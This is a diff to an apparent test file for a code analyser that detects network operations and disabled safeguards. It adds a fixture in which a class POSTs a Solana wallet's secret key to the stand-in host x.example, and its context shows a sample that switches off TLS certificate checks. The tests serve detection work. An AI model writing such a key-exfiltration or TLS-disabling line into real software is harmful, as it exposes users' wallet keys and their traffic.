@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { only, operationsOf } from "./read.ts";
+import { only, operationsOf, read } from "./read.ts";
 
 const NETWORK = ["download", "send", "connect", "listen"];
 
@@ -213,4 +213,18 @@ test.each([
   ["request({ url: 'https://x.example', strictSSL: false })"],
 ])("%s switches the check of certificates off", (code) => {
   expect(operationsOf(code)).toContain("disable-safeguard tls-verification");
+});
+
+test.each([
+  ["wallet.publicKey.toBase58()", []],
+  ["wallet.secretKey", ["input"]],
+])("of a parameter that is a wallet by its type: %s", (part, kinds) => {
+  const { operations } = read(
+    `import { Keypair } from "@solana/web3.js"; export class Quote { constructor(private wallet?: Keypair) {}
+    ask() { const wallet = this.wallet; return fetch("https://x.example/q", { method: "POST", body: ${part} }); } }`,
+    "a.ts",
+    "typescript",
+  );
+  const sent = operations.flatMap(({ operation }) => (operation.op === "send" ? operation.payload : []));
+  expect(sent.flatMap(({ origins }) => origins.map(({ kind }) => kind))).toEqual(kinds);
 });
